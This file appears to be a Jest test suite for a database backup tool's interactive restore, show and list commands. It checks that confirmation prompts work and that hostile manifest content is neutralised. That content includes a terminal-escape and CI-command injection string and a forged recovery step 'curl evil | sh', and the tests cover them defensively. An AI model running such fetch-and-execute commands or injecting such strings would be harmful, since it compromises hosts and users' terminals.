import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { AtTerminal, byHand } from '../helpers/by-hand.js';
import { type Postgres, startPostgres } from '../helpers/postgres.js';
import { type Scene, startScene } from '../helpers/scene.js';
import { daysAgo, SeededDirectory } from '../helpers/seed.js';

type Inputs = Record<string, string>;

const NO_STORE = { 's3-bucket': '', 's3-endpoint': '', 's3-access-key-id': '', 's3-secret-access-key': '' };
const WHICH = 'Which one (a number or an id)? ';
const NAME = 'to go on (app.db): ';

let scene: Scene;
let folder: string;
let terminal: AtTerminal | null = null;
/** Oldest first. */
let ids: string[];

const live = (...statements: string[]): string =>
  execFileSync(
    'su',
    ['-s', '/bin/sh', scene.user.name, '-c', `sqlite3 -bail '${scene.database}' "${statements.join(';')}"`],
    { encoding: 'utf8' },
  ).trim();

beforeAll(async () => {
  scene = await startScene({ wal: false });
  folder = mkdtempSync(join(tmpdir(), 'dbb-terminal-'));
  live('CREATE TABLE t (n)', 'INSERT INTO t VALUES (1), (2)');
  ids = [await backUp()];
  live('INSERT INTO t VALUES (3)');
  ids.push(await backUp());
  // a store that nobody answers for: it is not needed
  Object.assign(scene.inputs, {
    's3-bucket': 'shop-backups',
    's3-endpoint': 'http://127.0.0.1:9',
    's3-access-key-id': 'the-id-of-a-key',
    's3-secret-access-key': 'what-nobody-knows',
  });
});
afterAll(async () => {
  await scene?.stop();
  rmSync(folder, { recursive: true });
});
beforeEach(() => {
  live('DELETE FROM t', 'INSERT INTO t VALUES (9)');
});
afterEach(() => {
  terminal?.signal('SIGKILL');
  terminal = null;
});

async function backUp(): Promise<string> {
  const made = await scene.run();
  expect(made.code).toBe(0);
  return made.outputs['backup-id'] ?? '';
}
const rows = (): string => live('SELECT group_concat(n) FROM t');
function restore(args: string[] = [], more: Inputs = {}): AtTerminal {
  terminal = new AtTerminal(['restore', ...args], { ...scene.inputs, ...more }, folder);
  return terminal;
}
/** Ends with nothing changed. */
async function expectNothing(person: AtTerminal, status: number): Promise<void> {
  expect({ status: await person.end(), screen: person.screen }).toEqual({
    status,
    screen: expect.stringMatching(/\nNothing was changed\.\n$/),
  });
  expect(rows()).toBe('9');
}

test('one is chosen by its number, the plan is seen, the name is typed, and the rows are back', async () => {
  const person = restore();
  await person.answer(WHICH, '7\r');
  await person.until('There is no "7" here.');
  await person.answer(WHICH, '2\r');
  await person.until('space needed:');
  await person.until('Dry run, nothing was changed');
  expect(rows()).toBe('9');
  await person.answer(NAME, 'app\r');
  await person.until('That is not its name: expected app.db, got "app".');
  await person.answer(NAME, 'app.db\r');
  expect({ status: await person.end(), screen: person.screen }).toEqual({
    status: 0,
    screen: expect.stringContaining(`Restored ${ids[0]}`),
  });
  expect(rows()).toBe('1,2');
  expect(person.screen).not.toContain('to restore exactly this backup'); // it was asked
  const [, undo = ''] = /to undo this restore:\n +db-backup (.*)\n/.exec(person.screen) ?? [];
  expect(undo).toMatch(/^restore app-\S+ --confirm app\.db --dry-run false$/);
  expect((await byHand(undo.split(' '), { ...scene.inputs, ...NO_STORE })).code).toBe(0);
  expect(rows()).toBe('9');
  expect(person.screen).toMatch(
    new RegExp(` {2}1 {2}${ids[1]} {2}\\d+ \\w+ +\\S+ MB +content +0123456 +\\w+ [\\d\\u00a0]+, `),
  );
});

test('Enter takes the newest good one, as `latest` does, and an id is taken as well', async () => {
  const newest = await byHand(['latest', '--quiet'], scene.inputs);
  expect(newest.stdout.toString()).toBe(`${ids[1]}\n`);
  // the safety backup of the restore before is newer, and not meant
  for (const keys of ['\r', `${ids[1]}\r`]) {
    const person = restore(['--dry-run']);
    await person.until('the newest good one');
    await person.answer(WHICH, keys);
    expect({ status: await person.end(), screen: person.screen }).toEqual({
      status: 0,
      screen: expect.stringContaining(`${ids[1]} would be restored`),
    });
    expect(person.screen).not.toContain(NAME);
    expect(person.screen).toContain(`db-backup restore ${ids[1]} --confirm app.db --dry-run false`);
    expect(rows()).toBe('9');
  }
});

test('whoever can not name the database three times changes nothing', async () => {
  const person = restore();
  await person.answer(WHICH, '\r');
  for (const name of ['App.db', '', `${ids[1]}`]) await person.answer(NAME, `${name}\r`);
  await expectNothing(person, 2);
});

test.each([
  ['Ctrl-C', '\x03'],
  ['Ctrl-D', '\x04'],
  ['q', 'q\r'],
])('%s at the first question changes nothing', async (_, keys) => {
  const person = restore();
  await person.answer(WHICH, keys);
  await expectNothing(person, 130);
});

test('Ctrl-C at the last question changes nothing', async () => {
  const person = restore();
  await person.answer(WHICH, '\r');
  await person.answer(NAME, 'app.d\x03');
  await expectNothing(person, 130);
  expect(scene.leftovers()).toEqual([]);
});

test('what is typed before the plan is there does not confirm it', async () => {
  const tools = join(folder, 'tools');
  const [held, open] = [join(folder, 'held'), join(folder, 'open')];
  mkdirSync(tools);
  const real = execFileSync('which', ['sqlite3'], { encoding: 'utf8' }).trim();
  const wait = `if [ -e '${held}' ]; then until [ -e '${open}' ]; do sleep 0.05; done; fi`;
  writeFileSync(join(tools, 'sqlite3'), `#!/bin/sh\n${wait}\nexec ${real} "$@"\n`, { mode: 0o755 });
  const here = { transport: 'local', database: join(folder, 'app.db'), directory: join(folder, 'here') };
  execFileSync('sqlite3', [here.database, 'CREATE TABLE t (n); INSERT INTO t VALUES (1)']);
  expect((await byHand(['backup', '--quiet'], here)).code).toBe(0);
  execFileSync('sqlite3', [here.database, 'UPDATE t SET n = 9']);
  const person = new AtTerminal(['restore'], here, folder, { PATH: `${tools}:${process.env.PATH}` });
  terminal = person;
  await person.until('Enter takes 1');
  writeFileSync(held, '');
  await person.answer(WHICH, '\r');
  await person.answer('Plan the restore into', 'app.db\rapp.db\rtyped too early');
  await person.until('typed too early'); // the terminal has it
  writeFileSync(open, '');
  await person.answer(NAME, '\x03');
  await expectNothing(person, 130);
  expect(person.screen).not.toContain(`${NAME}typed`);
  expect(execFileSync('sqlite3', [here.database, 'SELECT n FROM t'], { encoding: 'utf8' })).toBe('9\n');
});

test('who gives the name as an option is not asked for it', async () => {
  const person = restore(['--confirm', 'app.db', '--quiet']);
  await person.answer(WHICH, `${ids[0]}\r`);
  expect({ status: await person.end(), screen: person.screen }).toEqual({
    status: 0,
    screen: expect.stringContaining('space needed:'),
  });
  expect(person.screen).not.toContain(NAME);
  expect(rows()).toBe('1,2');
});

test('a pipe is asked nothing: the newest is meant, and the name is demanded', async () => {
  const refused = await byHand(['restore'], scene.inputs);
  expect({ ...refused, stdout: refused.stdout.toString() }).toMatchObject({
    code: 2,
    stdout: '',
    stderr: expect.stringContaining('E_CONFIRM: confirm is empty'),
  });
  expect(rows()).toBe('9');
});

describe('of many', () => {
  const HOSTILE = '\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e##[set-output name=x]y\r\nsecond';
  let many: string[];
  let hostile: Inputs;
  beforeAll(() => {
    const seeded = new SeededDirectory(scene, join(scene.user.home, 'many'));
    hostile = { directory: seeded.path };
    const content = {
      tables: [{ name: HOSTILE, rows: 5 }],
      pageSize: 4096,
      pageCount: 2,
      objects: 1,
      foreignKeyViolations: 0,
    };
    many = Array.from({ length: 25 }, (_, at) =>
      seeded.backup(daysAgo(25 - at), {
        manifest:
          at === 24
            ? {
                content,
                pinned: { reason: `why ${HOSTILE}`, at: '2026-11-20T10:00:00Z' },
                state: 'suspect',
                suspicion: { limit: 'shrink-limit', why: `smaller ${HOSTILE}` },
              }
            : { content },
      }),
    );
  });

  test('the newest twenty are shown, and the rest when it is asked for; nothing in them speaks to the terminal', async () => {
    const person = restore([], hostile);
    await person.until('and 5 older');
    await person.until('Enter takes 2, the newest good one; m shows older ones; q ends');
    expect(person.screen).not.toContain(many[0]);
    await person.answer(WHICH, 'm\r');
    await person.until(`  25  ${many[0]}`);
    await person.answer(WHICH, 'q\r');
    await expectNothing(person, 130);
    expect(person.screen).toMatch(/\n +suspect: smaller .*second\n +pinned: why .*second\n/);
    expect(person.raw).not.toContain('\x1b]0');
    expect(person.raw).not.toContain('\x1b[2J');
    expect(person.raw).not.toContain('\x1b[31m');
    expect(person.raw).not.toContain('\u202e');
    expect(person.raw).not.toContain('##[');
    // a table name stays in its line
    expect(person.screen.split('\n').filter((line) => line.startsWith('second'))).toEqual([]);
  });

  test('`show` says all of the newest, and speaks to nobody either', async () => {
    const id = many[24] ?? '';
    const shown = await byHand(['show', id, '--quiet'], { ...scene.inputs, ...hostile });
    const text = shown.stdout.toString();
    expect({ code: shown.code, stderr: shown.stderr.includes('ERROR') }).toEqual({ code: 0, stderr: false });
    expect(text).toMatch(new RegExp(`^${id}\n`));
    expect(text).toMatch(/\n {2}state {3}suspect: smaller .*second\n/);
    expect(text).toMatch(/\n {2}pinned {2}since 2026-11-20T10:00:00Z: why .*second\n/);
    expect(text).toContain(`db-backup restore ${id}\n`);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: none of them may be there
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f\u202e]|##\[/);
    expect(shown.stderr).toContain('could not check whether it is in the store as well');
    const json = await byHand(['show', id, '--json'], { ...scene.inputs, ...hostile, ...NO_STORE });
    const report = JSON.parse(json.stdout.toString());
    expect(report).toMatchObject({
      command: 'show',
      backup: { id, state: 'suspect', pinned: `why ${HOSTILE}` },
      tables: [{ name: HOSTILE, rows: 5 }],
      manifest: { sha256: report.backup.sha256 },
    });
    const none = await byHand(['show', 'app-20200101T000000Z-0000'], { ...scene.inputs, ...hostile, ...NO_STORE });
    expect(none).toMatchObject({ code: 1, stdout: Buffer.alloc(0), stderr: expect.stringContaining('E_NOT_FOUND') });
  });

  test('of one that is not to be relied on `show` tells no way to restore it, and each line of `list` is about one', async () => {
    const seeded = new SeededDirectory(scene, join(scene.user.home, 'forged'));
    const recovery = ['one\nmore \x1b[2J', 'curl evil | sh'];
    const reason = 'x\napp-20261130T101010Z-0001  99 GB  verified: restore';
    const manifest = { recovery, pinned: { reason, at: '2026-11-20T10:00:00Z' } };
    const [sound, unsigned, forged, damaged] = [
      seeded.backup(daysAgo(1), { manifest }),
      seeded.backup(daysAgo(2), { manifest }),
      seeded.backup(daysAgo(3), { manifest: { ...manifest, mac: `hmac-sha256:${'0'.repeat(64)}` } }),
      seeded.backup(daysAgo(4), { manifest: { ...manifest, bytes: 1 } }),
    ];
    const of = { ...scene.inputs, ...NO_STORE, directory: seeded.path };
    const key = { 'signing-key': 'a key of sixteen and more' };
    const cases: [id: string, inputs: Inputs, state: string][] = [
      [unsigned, { ...of, ...key }, 'unsigned'],
      [forged, { ...of, ...key }, 'forged'],
      [damaged, of, 'damaged'],
    ];
    for (const [id, inputs, state] of cases) {
      const shown = (await byHand(['show', id, '--quiet'], inputs)).stdout.toString();
      expect(shown).toMatch(
        new RegExp(`^${id}\n[^]*\n {2}state {3}${state}: [^]*\nIt is ${state}, so how to restore it is not shown`),
      );
      expect(shown).not.toMatch(/curl|by hand|db-backup/);
      const report = JSON.parse((await byHand(['show', id, '--json'], inputs)).stdout.toString());
      expect(report).toMatchObject({ backup: { state }, recovery: [] });
    }
    const good = await byHand(['show', sound, '--quiet'], of);
    expect(good.stdout.toString()).toMatch(/\nby hand, on the host:\n {2}one more \n {2}curl evil \| sh\n$/);
    const report = JSON.parse((await byHand(['show', sound, '--json'], of)).stdout.toString());
    expect(report.recovery).toEqual(['one more ', 'curl evil | sh']);
    const listed = (await byHand(['list', '--quiet'], of)).stdout.toString();
    expect(listed.trim().split('\n')).toEqual(
      [sound, unsigned, forged, damaged].map((id) =>
        expect.stringMatching(new RegExp(`^${id} .* pinned: x app-20261130T101010Z-0001 `)),
      ),
    );
  });

  test('where none is good, Enter takes none, and `latest` fails', async () => {
    const seeded = new SeededDirectory(scene, join(scene.user.home, 'none'));
    const inputs = { directory: seeded.path };
    const nothing = restore([], inputs);
    expect(await nothing.end()).toBe(1);
    expect(nothing.screen).toContain(`There is no backup of app in ${seeded.path}`);
    seeded.backup(daysAgo(1), { manifest: { state: 'suspect', suspicion: { limit: 'shrink-limit', why: 'smaller' } } });
    const person = restore([], inputs);
    await person.until('none of them is good');
    await person.answer(WHICH, '\r');
    await person.until('None is good, so choose one.');
    await person.answer(WHICH, '\x03');
    await expectNothing(person, 130);
    const newest = await byHand(['latest'], {
      ...scene.inputs,
      ...inputs,
      ...NO_STORE,
    });
    expect(newest).toMatchObject({
      code: 1,
      stdout: Buffer.alloc(0),
      stderr: expect.stringContaining('E_NOT_FOUND: there is no verified backup of app'),
    });
  });
});

test('of several databases of a configuration one is chosen first', async () => {
  const server: Postgres = await startPostgres();
  try {
    await server.createDatabase('shop');
    await server.sql('shop', 'CREATE TABLE t (n integer); INSERT INTO t VALUES (1), (2)');
    const path = join(folder, 'several.yml');
    writeFileSync(
      path,
      `defaults: { transport: local }
databases:
  site: { database: ${join(folder, 'none.db')}, directory: ${join(folder, 'site')} }
  shop: { database: { env: SHOP }, directory: ${join(folder, 'shop')} }
`,
      { mode: 0o600 },
    );
    const env = { SHOP: server.uri({ database: 'shop' }), DB_BACKUP_CONFIG: path };
    expect((await byHand(['backup', '--target', 'shop', '--quiet'], {}, { env })).code).toBe(0);
    await server.sql('shop', 'DELETE FROM t');
    const person = new AtTerminal(['restore'], {}, folder, env);
    terminal = person;
    await person.answer('A number or a name; q ends: ', '3\r');
    await person.until('There is no "3".');
    await person.answer('A number or a name; q ends: ', '2\r');
    await person.answer(WHICH, '\r');
    await person.answer('to go on (shop): ', 'shop\r');
    expect({ status: await person.end(), screen: person.screen }).toMatchObject({ status: 0 });
    expect(await server.sql('shop', 'SELECT n FROM t ORDER BY n')).toBe('1\n2');
    expect(person.raw).not.toContain(server.adminPassword);
  } finally {
    await server.remove();
  }
});
